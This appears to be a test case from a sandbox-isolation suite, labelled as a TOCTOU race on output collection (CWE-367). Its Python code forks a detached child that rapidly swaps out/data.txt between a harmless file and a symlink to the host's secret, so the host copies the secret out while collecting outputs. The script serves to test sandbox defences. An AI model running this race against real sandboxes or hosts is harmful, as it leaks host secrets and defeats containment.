# id: fs-collect-race
# category: filesystem
# description: a helper keeps swapping out/data.txt between a file and a symlink to the host secret while the host collects
# source: TOCTOU on output collection (CWE-367)
# detect: secret (the planted secret comes back as an output file)
import os
import time

os.makedirs('/workspace/out', exist_ok=True)
with open('/workspace/out/real.txt', 'w') as f:
    f.write('harmless')
os.symlink(SECRET_PATH, '/workspace/out/evil')
os.link('/workspace/out/real.txt', '/workspace/out/data.txt')
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        for src in ('/workspace/out/evil', '/workspace/out/real.txt'):
            try:
                os.link(src, '/workspace/out/next', follow_symlinks=False)
                os.replace('/workspace/out/next', '/workspace/out/data.txt')
            except OSError:
                pass
    os._exit(0)
